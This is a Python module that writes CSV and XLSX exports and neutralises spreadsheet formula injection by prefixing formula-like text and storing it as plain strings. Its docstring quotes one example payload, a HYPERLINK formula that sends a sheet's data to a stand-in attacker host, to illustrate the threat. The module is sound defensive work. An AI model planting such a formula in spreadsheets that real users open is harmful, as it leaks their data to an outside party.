"""The one writer of every CSV and XLSX file Recoup hands out, so no cell is read as a formula.

Customer names, invoice references, message texts and a bank transfer's remittance text end up
in exports that people open in Excel, LibreOffice or Google Sheets. A cell whose text begins with
``= + - @`` (or a tab, CR, LF or NUL a spreadsheet may skip first) is run as a formula there:
``=HYPERLINK("https://evil.example/?"&A1, "Click")`` sends the sheet's data away in one click.
Following OWASP's CSV-injection guidance (and ASVS 1.2.10):

- CSV: such text gets a single quote in front (``'=HYPERLINK(...)``), which every spreadsheet
  shows as text; every field is quoted, so a spreadsheet that splits on another delimiter (a
  German Excel splitting a comma file at ``;``) cannot start a new cell in the middle of one.
- XLSX: text is stored as a string cell (never a formula cell), exactly as given; formula-leading
  text also carries the "quote prefix" style, Excel's own mark for text typed after a ``'``, so
  editing the cell does not turn it into a formula either.
- A plain decimal number (``-12.50``, ``0.5``, ``-250,50`` in a decimal-comma file) is left as it
  is: a spreadsheet reads it as that number and it holds nothing a formula could be made of.
  This keeps credits, recoveries and negative balances summable; ``-1+2`` or ``-12.50 EUR`` is
  not a plain number and is quoted. In XLSX such text becomes a number cell (stored exactly, as
  a Decimal); a number with a leading zero (``00123``, a reference) stays text.

``tests/test_export_formulas.py`` fails when a module writes CSV or XLSX without this one.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence
from datetime import date, datetime
from decimal import Decimal
from typing import Any

# The characters a spreadsheet may take as the start of a formula (OWASP, ASVS 1.2.10), the
# whitespace some programs strip first, and the full-width forms East Asian input produces.
FORMULA_START = frozenset("=+-@\t\r\n\0\uff1d\uff0b\uff0d\uff20")
_OPERATORS = frozenset("=+-@\uff1d\uff0b\uff0d\uff20")
_NUMBER = re.compile(r"-?(?:0|[1-9][0-9]*)(?:[.,][0-9]+)?")


def is_plain_number(text: str) -> bool:
    """``text`` is an optionally negative decimal number and nothing else (``.`` or ``,`` as the point)."""
    return _NUMBER.fullmatch(text) is not None


def is_formula_like(text: str) -> bool:
    """A spreadsheet could read ``text`` as a formula: its first character (or the first after
    leading whitespace) starts one, and it is not a plain number."""
    if not text or is_plain_number(text):
        return False
    if text[0] in FORMULA_START:
        return True
    return text[0].isspace() and text.lstrip()[:1] in _OPERATORS


def as_text(value: Any) -> str:
    """A value as the text of a cell: None as "", a Decimal without exponent, dates in ISO form."""
    if value is None:
        return ""
    if isinstance(value, Decimal):
        return format(value, "f")
    if isinstance(value, (date, datetime)):
        return value.isoformat()
    return str(value)


def csv_cell(value: Any) -> str:
    """The text written for one CSV field: formula-like text with a ``'`` in front."""
    text = as_text(value)
    return "'" + text if is_formula_like(text) else text


class CsvWriter:
    """``csv.writer`` over ``out`` (any object with ``write``) that neutralises every field."""

    def __init__(self, out, *, delimiter: str = ",", lineterminator: str = "\r\n") -> None:
        self._writer = csv.writer(out, delimiter=delimiter, lineterminator=lineterminator, quoting=csv.QUOTE_ALL)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([csv_cell(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_text(headers: Sequence[str], rows: Iterable[Iterable[Any]], *, delimiter: str = ",",
             lineterminator: str = "\r\n") -> str:
    """A whole CSV file as text: the header row, then ``rows``."""
    buf = io.StringIO()
    writer = CsvWriter(buf, delimiter=delimiter, lineterminator=lineterminator)
    writer.writerow(headers)
    writer.writerows(rows)
    return buf.getvalue()


def dict_rows(columns: Sequence[str], rows: Iterable[dict[str, Any]]) -> list[list[Any]]:
    """Dict rows as lists in ``columns`` order (a missing key is ""; an unknown one is an error,
    as with ``csv.DictWriter``)."""
    out = []
    for row in rows:
        unknown = set(row) - set(columns)
        if unknown:
            raise ValueError(f"row has fields not in the columns: {', '.join(sorted(unknown))}")
        out.append([row.get(c, "") for c in columns])
    return out


def xlsx_bytes(*, sheet: str, headers: Sequence[str], rows: Iterable[Iterable[Any]]) -> bytes:
    """A workbook of one sheet: numbers as number cells, all other text as string cells."""
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    ws.title = _sheet_title(sheet)
    for r, row in enumerate([list(headers), *rows], start=1):
        for c, value in enumerate(row, start=1):
            _put(ws.cell(row=r, column=c), value)
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def _sheet_title(name: str) -> str:
    # Excel refuses these in a sheet name; 31 characters at most.
    return (re.sub(r"[\[\]:*?/\\]", "-", name)[:31]) or "Sheet"


def _put(cell, value: Any) -> None:
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    if value is None or value == "":
        return
    if isinstance(value, (int, Decimal)) and not isinstance(value, bool):
        cell.value = value
        return
    text = as_text(value)
    if is_plain_number(text) and "," not in text:
        cell.value = Decimal(text)
        return
    formula_like = is_formula_like(text)
    # Control characters XML cannot hold would make openpyxl refuse the whole file.
    cell.value = ILLEGAL_CHARACTERS_RE.sub("\ufffd", text)
    cell.data_type = "s"  # openpyxl makes text beginning with "=" a formula cell
    if formula_like:
        cell.quotePrefix = True
